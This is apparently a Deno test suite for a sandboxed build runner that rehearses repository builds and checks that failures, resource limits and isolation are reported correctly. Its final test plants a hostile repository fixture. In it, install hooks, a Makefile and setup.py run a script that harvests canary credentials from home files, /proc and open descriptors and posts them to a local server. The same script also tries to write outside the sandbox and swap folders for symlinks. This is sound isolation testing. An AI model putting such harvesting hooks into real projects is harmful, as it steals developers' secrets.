/** A rehearsal builds what it is given, shut in; what it answers, and what a hostile repository gets out of it. */
import { assert, assertEquals, assertMatch, assertStringIncludes } from "@std/assert";
import { dirname, fromFileUrl, join } from "@std/path";
import { rehearsalSchema } from "../../agents/tools/rehearsal.ts";
import { systemClock } from "../../base/clock.ts";
import { MACHINE_LIMITS, watchMachine } from "../../drydock/machine_watch.ts";
import type { MachineLimits } from "../../drydock/machine_watch.ts";
import type { Rehearsal } from "../../drydock/rehearse.ts";
import { toolEnvironment } from "../../process/environment.ts";
import { run } from "../../process/run.ts";
import { hasCell } from "../helpers/cell.ts";
import { rehearseGiven } from "../helpers/rehearse.ts";
import type { Given } from "../helpers/rehearse.ts";
import { processesOf } from "../scenarios/leftovers.ts";
import { until } from "./harbour.ts";

const ignore = !await hasCell();
const NOBODY = "65534";
const isRoot = Deno.uid() === 0;

/** A folder of the system on which a test may mount something, in a namespace of its own. */
const BELOW = "/usr/local/share";
/** The helper as one file, which another user can read as well. */
let bundled: Promise<string> | undefined;
const bundle = () =>
  bundled ??= succeed(
    [
      ...[Deno.execPath(), "bundle", "-q", "--config"],
      ...["../../deno.json", "../helpers/rehearse.ts"].map((path) =>
        fromFileUrl(new URL(path, import.meta.url))
      ),
    ] as [string, ...string[]], // It begins with the program.
    { HOME: Deno.env.get("HOME") ?? "/" },
  );

interface Wanted {
  buildCommand: string;
  runtime?: string;
  timeoutMs?: number;
  limits?: Partial<MachineLimits>;
  memoryMiB?: number;
  /** What the failed build ran on. @default what is here */
  node?: string | null;
}

/** One folder with a home, a data folder and a checkout in it. */
class Ground implements AsyncDisposable {
  private constructor(readonly folder: string, readonly node: string) {}

  /** @param dir where it lies @default the temporary folder */
  static async open(dir?: string): Promise<Ground> {
    const options = { prefix: "evenkeel-rehearsal-", ...(dir === undefined ? {} : { dir }) };
    const folder = await Deno.makeTempDir(options);
    for (const name of ["home", "data/scratch", "checkout", "cwd"]) {
      await Deno.mkdir(join(folder, name), { recursive: true });
    }
    return new Ground(folder, (await succeed(["node", "--version"])).trim().slice(1));
  }

  path(name: string): string {
    return join(this.folder, name);
  }

  async write(files: Readonly<Record<string, string>>): Promise<void> {
    for (const [name, text] of Object.entries(files)) {
      await Deno.mkdir(dirname(this.path(name)), { recursive: true });
      await Deno.writeTextFile(this.path(name), text);
    }
  }

  async rehearse(wanted: Wanted): Promise<Rehearsal> {
    const result = await rehearseGiven(this.#given(wanted));
    await this.#assertClean();
    return result;
  }

  /** In a process of its own. @param launch what starts it @param env on top of what it needs */
  async rehearseApart(
    wanted: Wanted,
    { launch, env = {} }: { launch: [string, ...string[]]; env?: Record<string, string> },
  ): Promise<Rehearsal> {
    const script = this.path("rehearse.js");
    if (await Deno.stat(script).catch(() => null) === null) await Deno.writeTextFile(script, await bundle());
    const deno = [Deno.execPath(), "run", "-A", "--no-config", "--no-lock", script];
    const printed = await succeed(
      [...launch, ...deno, JSON.stringify(this.#given(wanted))],
      { HOME: this.path("home"), DENO_DIR: this.path("deno"), ...env },
      this.path("cwd"),
    );
    await this.#assertClean();
    return rehearsalSchema.parse(JSON.parse(printed));
  }

  #given({ buildCommand, runtime = "node", node = this.node, ...limits }: Wanted): Given {
    return {
      request: { directory: this.path("checkout"), edits: [], runtime, buildCommand, node },
      scratchRoot: this.path("data/scratch"),
      hidden: [this.path("data")],
      timeoutMs: 60_000,
      ...limits,
    };
  }

  async #assertClean(): Promise<void> {
    const left = await Array.fromAsync(Deno.readDir(this.path("data/scratch")), ({ name }) => name);
    assertEquals(left.filter((name) => name.startsWith("rehearsal-")), []);
    await until(async () => (await processesOf(this.folder)).length === 0 ? true : undefined);
  }

  async [Symbol.asyncDispose](): Promise<void> {
    await Deno.remove(this.folder, { recursive: true });
  }
}

async function succeed(
  [program, ...args]: readonly [string, ...string[]],
  env: Readonly<Record<string, string>> = {},
  cwd = "/",
): Promise<string> {
  const result = await run({
    command: [program, ...args],
    cwd,
    env: { ...toolEnvironment(), ...env },
    timeoutMs: 120_000,
  });
  assert(result.kind === "exited" && result.code === 0, `${program} ${args[0]}: ${result.stderr}`);
  return result.stdout;
}

Deno.test({
  name: "a failed build command stands against a fix; what this machine or a limit explains does not",
  ignore,
  async fn() {
    await using ground = await Ground.open();
    await ground.write({ "checkout/index.js": "" });
    assertEquals((await ground.rehearse({ buildCommand: "test -f index.js" })).kind, "built");
    const failed = await ground.rehearse({ buildCommand: "echo it is broken; exit 3" });
    assert(failed.kind === "failed", JSON.stringify(failed));
    assertStringIncludes(failed.log, "it is broken\n==> Exited with status 3");
    const unknowns = [
      [
        { buildCommand: "echo getaddrinfo ENOTFOUND registry; exit 1" },
        /for this machine's sake: .*ENOTFOUND/,
      ],
      [{ buildCommand: "kill -9 $$" }, /ended with status 137/],
      [{ buildCommand: "no-such-program" }, /ended with status 127/],
      [{ buildCommand: "sleep 600 & setsid sleep 600", timeoutMs: 1_000 }, /beyond the time/],
      [
        // No name leads to the file any more, and other tests may free some room meanwhile.
        {
          buildCommand: "exec 9<> big; rm big; fallocate -l 2000000000 /proc/self/fd/9; sleep 600",
          limits: { bytesMax: 20_000_000 },
        },
        /more room on the disk/,
      ],
      [
        {
          buildCommand: "mkdir shut; cd shut; seq 20000 | xargs touch; chmod 0 .; sleep 600",
          limits: { inodesMax: 2_000 },
        },
        /more files than/,
      ],
      [
        // Memory of no process.
        {
          buildCommand:
            `node -e 'require("fs").writeFileSync("/dev/shm/file", Buffer.alloc(6e7)); setTimeout(() => {}, 6e5)'`,
          limits: { sharedBytesMax: 3e7 },
        },
        /more files in memory/,
      ],
      [
        // Large, and in a session of its own.
        {
          buildCommand: "setsid -w node -e 'const a = Buffer.alloc(3e8, 1); setTimeout(() => a, 6e5)'",
          memoryMiB: 200,
        },
        /beyond the memory/,
      ],
      [{ buildCommand: "exit 1", node: "6.1.0" }, /with Node.js \S+; Render builds with 6\.1\.0/],
      [{ buildCommand: "exit 1", node: null }, /which Node.js Render builds it with is not known/],
      [{ buildCommand: "exit 1", runtime: "docker" }, /runtime docker are not rehearsed/],
    ] as const;
    for (const [wanted, why] of unknowns) {
      const result = await ground.rehearse(wanted);
      assert(result.kind === "unknown", JSON.stringify(result));
      assertMatch(result.why, why);
    }
  },
});

Deno.test("a rehearsal ends where the machine has too little left, or does not say", async () => {
  const folder = await Deno.makeTempDir({ prefix: "evenkeel-rehearsal-" });
  await using tidy = new AsyncDisposableStack();
  tidy.defer(() => Deno.remove(folder));
  const limits: [string, Partial<MachineLimits>, RegExp][] = [
    [folder, { bytesLeftMin: 1e18 }, /too little room left/],
    [folder, { inodesLeftMin: 1e18 }, /too few files left/],
    [folder, { memoryLeftMin: 1e18 }, /too little memory left/],
    [join(folder, "nowhere"), {}, /does not say in time/],
  ];
  for (const [place, given, why] of limits) {
    let told = "";
    const over = new AbortController().signal;
    const nothing = { bytesLeftMin: 0, inodesLeftMin: 0, memoryLeftMin: 0 };
    await watchMachine(place, { ...MACHINE_LIMITS, ...nothing, ...given }, systemClock, over, (why) => {
      told = why;
    });
    assertMatch(told, why);
  }
});

Deno.test({
  name: "folders of a build that lie deeper than a stack goes are removed",
  ignore,
  async fn() {
    // In memory, where that many folders are removed soon.
    const memory = await Deno.stat("/dev/shm").then(() => "/dev/shm", () => undefined);
    await using ground = await Ground.open(memory);
    const buildCommand = `node -e '
for (let i = 0; i < 40000; i++) { require("fs").mkdirSync("d"); process.chdir("d"); }'`;
    // Apart, because what it is about would end this process.
    assertEquals((await ground.rehearseApart({ buildCommand }, { launch: ["env"] })).kind, "built");
  },
});

Deno.test({
  name: "where no namespaces are to be had a rehearsal runs nothing, and says so",
  ignore,
  async fn() {
    await using ground = await Ground.open();
    const marker = ground.path("marker");
    // Root of a namespace that knows no other user.
    const launch: [string, ...string[]] = ["unshare", "--user", "--map-root-user"];
    const result = await ground.rehearseApart({ buildCommand: `touch ${marker}` }, { launch });
    assert(result.kind === "unknown", JSON.stringify(result));
    assertMatch(result.why, /^this machine lets no namespaces be made: ./);
    assertEquals(await Deno.stat(marker).catch(() => null), null);
  },
});

for (const way of isRoot ? ["root", "another user"] : ["an ordinary user"]) {
  Deno.test({
    name:
      `a hostile repository that is rehearsed by ${way} finds no secret and leaves nothing outside (promise 17)`,
    ignore,
    async fn() {
      await using ground = await Ground.open();
      const heard = new Map<string, string>();
      await using server = Deno.serve(
        { hostname: "127.0.0.1", port: 0, onListen: () => {} },
        async (request) => {
          heard.set(new URL(request.url).pathname.slice(1), await request.text());
          return new Response("thanks");
        },
      );
      const canary = (place: string) => `canary-${place}-4711`;
      const secrets: Record<string, string> = Object.fromEntries(
        [
          "home/.netrc",
          "home/.npmrc",
          "home/.gitconfig",
          "home/.git-credentials",
          "home/.ssh/id_ed25519",
          "home/.config/pip/pip.conf",
          "home/.aws/credentials",
          "data/evenkeel.db",
          "data/scratch/beside",
          "data/tools/token",
          "cwd/.env",
          "opt/token",
          "opt/uv/token",
          "checkout.git/config",
          "checkout/.git/config",
          "open-file",
        ].map((path) => [path, canary(path)]),
      );
      const env = {
        RENDER_API_KEY: canary("RENDER_API_KEY"),
        GITHUB_TOKEN: canary("GITHUB_TOKEN"),
        DATABASE_URL: canary("DATABASE_URL"),
        SSH_AUTH_SOCK: canary("SSH_AUTH_SOCK"),
        PIP_EXTRA_INDEX_URL: `http://me:${canary("PIP_EXTRA_INDEX_URL")}@localhost/`,
        npm_config_userconfig: ground.path("home/.npmrc"),
        // Folders with tools in them are shown; these hold more than tools.
        PATH: [
          ...["home/bin", "data/tools/bin", "opt/uv", "opt/bin"].map((name) => ground.path(name)),
          Deno.env.get("PATH"),
        ].join(":"),
      };
      const canaries = [...Object.values(secrets), ...Object.keys(env).slice(0, 5).map(canary)];
      const places = Object.keys(secrets).map((path) => ground.path(path)).join(" ");
      const outside = ["home", "data", "checkout", "cwd", "."].map((path) => `${ground.path(path)}/left`)
        .concat([
          "/usr/local/evenkeel-left",
          "/etc/evenkeel-left",
          "/evenkeel-left",
          "/dev/shm/evenkeel-left",
        ]);
      const tools = ["home/bin/yarn", "data/tools/bin/yarn", "opt/uv/uv", "opt/bin/pnpm"];
      await ground.write({ ...secrets, ...Object.fromEntries(tools.map((path) => [path, ""])) });
      await ground.write({
        // What all of them run: looks everywhere, tells what it found, and tries to leave something behind.
        "checkout/hunt.sh": `
{ env; cat ${places} .git/config .env
  for file in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\\0' '\\n' < $file; done
  for root in /proc/[0-9]*/root /proc/[0-9]*/cwd; do (cd $root && cat ${
          Object.keys(secrets).map((path) => `.${ground.path(path)} ../../${path}`).join(" ")
        }); done
  for number in 3 4 5 6 7 8 9 10; do cat /proc/self/fd/$number /proc/$PPID/fd/$number; done
  git config --show-origin --get-regexp .
  ls -a ${ground.folder} ${ground.path("home")} ${ground.path("data")} /root /home
  test -w /proc/sys/kernel/core_pattern && echo CORE-PATTERN
  touch ${BELOW}/left && echo LEFT-BELOW
  test -f ${ground.path("opt/uv/uv")} && test -f ${ground.path("opt/bin/pnpm")} && echo TOOLS
  grep -E "Cap(Eff|Bnd)|NoNewPrivs" /proc/self/status
  echo HUNTED
} > found-$1 2>/dev/null
if [ $1 != free ]; then
for place in ${outside.join(" ")}; do echo left > $place; ln -s /etc/passwd $place-link; done 2>/dev/null
(setsid sleep 300 > /dev/null 2>&1 &)
fi
node -e 'fetch("http://127.0.0.1:${server.addr.port}/'$1'", {
  method: "POST", body: require("node:fs").readFileSync("found-'$1'") })'
`,
        "checkout/package.json": JSON.stringify({
          name: "trap",
          version: "1.0.0",
          scripts: { preinstall: "sh hunt.sh preinstall", postinstall: "sh hunt.sh postinstall" },
        }),
        "checkout/Makefile": "all:\n\tsh hunt.sh make\n",
        "checkout/setup.py": 'import os\nos.system("sh hunt.sh setup.py")\n',
        "checkout/build.sh": "sh hunt.sh build; mkdir shut && touch shut/file && chmod 0 shut\n",
      });
      await using tidy = new AsyncDisposableStack();
      for (const place of outside.flatMap((path) => [path, `${path}-link`])) {
        tidy.defer(() => Deno.remove(place).catch(() => {}));
      }
      const asOther: [string, ...string[]] = way === "another user"
        ? ["setpriv", "--reuid", NOBODY, "--regid", NOBODY, "--clear-groups"]
        : ["env"];
      if (way === "another user") await succeed(["chown", "-R", `${NOBODY}:${NOBODY}`, ground.folder]);
      // An open file that is handed on, as a service manager may.
      const open: [string, ...string[]] = [
        "sh",
        "-c",
        `exec 9< ${ground.path("open-file")}; exec "$@"`,
        "sh",
      ];
      // In a namespace of the test's own: what is mounted below the system's folders, free for all to write in.
      const below: [string, ...string[]] = isRoot
        ? [
          ...["unshare", "--mount", "--propagation", "private", "sh", "-c"] as const,
          ...[`mount -t tmpfs -o mode=1777 below ${BELOW} && exec "$@"`, "sh"],
        ]
        : ["env"];
      const launch: [string, ...string[]] = [...below, ...asOther, ...open];
      // What the caller would have to believe of its own folders: the service's, all of its cache, its temporary one.
      await ground.write({ "victim/cache/file": "", "victim/build-home/file": "", "victim/tmp/file": "" });
      if (way === "another user") {
        await succeed(["chown", "-R", `${NOBODY}:${NOBODY}`, ground.path("victim")]);
      }
      const swap = `cd ../../../.. && mv srv-rehearsal kept && ln -s ${ground.path("victim")} srv-rehearsal` +
        ` && cd .. && mkdir -p tmp && rm -r tmp && ln -s ${ground.path("victim")} tmp`;
      const buildCommand =
        `npm install; sh build.sh; if command -v make; then make; fi; if command -v python3; then python3 setup.py; fi; ${swap}`;
      const result = await ground.rehearseApart({ buildCommand }, { launch, env });
      assertEquals(result.kind, "built", JSON.stringify(result));
      const failed = await ground.rehearseApart({ buildCommand: `${swap} && exit 3` }, { launch, env });
      assertEquals(failed.kind, "failed", JSON.stringify(failed));
      for (const name of ["cache", "build-home", "tmp"]) {
        assertEquals((await Deno.stat(ground.path(`victim/${name}/file`))).isFile, true, name);
      }

      for (const name of ["preinstall", "postinstall", "build"]) {
        assertStringIncludes(heard.get(name) ?? "", "HUNTED", name);
      }
      for (const [name, found] of heard) {
        assertEquals(canaries.filter((one) => found.includes(one)), [], name);
        assertEquals(found.includes("CORE-PATTERN"), false, name);
        assertEquals(found.includes("LEFT-BELOW"), false, name);
        assertStringIncludes(found, "TOOLS");
        assertMatch(found, /CapEff:\t0{16}\nCapBnd:\t0{16}\nNoNewPrivs:\t1\n/);
      }
      for (const place of [...outside, ...outside.map((path) => `${path}-link`)]) {
        assertEquals(await Deno.lstat(place).catch(() => null), null, place);
      }
      // The hunter knows its trade: where nothing holds it, it finds what was planted.
      const free = { ...env, HOME: ground.path("home") };
      await succeed([...open, "sh", "hunt.sh", "free"], free, ground.path("checkout"));
      const seen = heard.get("free") ?? "";
      assertEquals(canaries.filter((one) => !seen.includes(one)), []);
    },
  });
}
